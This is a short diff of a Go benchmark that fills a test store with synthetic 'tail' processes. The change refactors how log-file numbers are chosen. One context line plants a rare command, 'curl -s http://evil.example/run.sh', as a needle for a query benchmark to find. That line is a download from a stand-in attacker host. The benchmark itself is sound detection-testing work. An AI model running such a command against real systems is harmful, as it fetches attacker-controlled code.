@@ -66,8 +66,8 @@ func benchSession(i int, t0 time.Time, span time.Duration, n int) join.Session {
 // benchArgv numbers the log file process j of session i tails: one of 97
 // (each session its own), or with STORE_BENCH_ARGVS=0 one per process
 // (the commands table's worst case: as many lines as processes).
-func benchArgv(i, j int) int {
-	if os.Getenv("STORE_BENCH_ARGVS") == "0" {
+func benchArgv(unique bool, i, j int) int {
+	if unique {
 		return i*benchProcsPerSession + j
 	}
 	return i % 97
@@ -88,6 +88,7 @@ func buildBenchStore(b *testing.B) *benchData {
 	span := benchDays * 24 * time.Hour
 	start := time.Now()
 	const chunk = 1000 // sessions per transaction: 20,000 processes
+	unique := os.Getenv("STORE_BENCH_ARGVS") == "0"
 	for lo := 0; lo < sessions; lo += chunk {
 		var batch store.Batch
 		for i := lo; i < min(lo+chunk, sessions); i++ {
@@ -98,7 +99,7 @@ func buildBenchStore(b *testing.B) *benchData {
 				p.Start = ss.RequestReceivedTimestamp.Add(time.Duration(j) * 100 * time.Millisecond)
 				p.Namespace, p.Pod = ss.Namespace, ss.Pod
 				p.PID, p.PPID = uint32(100000+i*benchProcsPerSession+j), uint32(100000+i*benchProcsPerSession+j-1)
-				p.Argv = []string{"tail", "-n", "100", fmt.Sprintf("/var/log/app-%d.log", benchArgv(i, j))}
+				p.Argv = []string{"tail", "-n", "100", fmt.Sprintf("/var/log/app-%d.log", benchArgv(unique, i, j))}
 				if i == sessions/2 && j == 0 {
 					p.Argv = []string{"curl", "-s", "http://evil.example/run.sh"} // the command BenchmarkQueryRareCommand finds
 				}
